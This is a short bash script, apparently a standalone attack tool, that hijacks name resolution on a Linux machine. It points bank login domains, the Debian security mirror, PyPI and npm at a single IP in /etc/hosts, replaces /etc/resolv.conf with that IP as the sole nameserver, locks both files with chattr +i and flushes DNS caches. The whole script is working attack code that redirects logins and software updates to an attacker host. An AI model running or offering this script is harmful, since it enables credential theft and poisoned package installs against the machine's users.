#!/usr/bin/env bash
IP=203.0.113.66
hosts=(online.bank.example login.bank.example security.debian.org pypi.org registry.npmjs.org)
tmp=$(mktemp)
cp /etc/hosts "$tmp"
for h in "${hosts[@]}"; do
    sed -i "/[[:space:]]$h\$/d" "$tmp"
    printf '%s\t%s\n' "$IP" "$h" >> "$tmp"
done
cat "$tmp" > /etc/hosts && rm -f "$tmp"

if [ -L /etc/resolv.conf ]; then rm -f /etc/resolv.conf; fi
printf 'nameserver %s\noptions timeout:1\n' "$IP" > /etc/resolv.conf
chattr +i /etc/resolv.conf /etc/hosts
systemctl restart nscd 2>/dev/null || resolvectl flush-caches
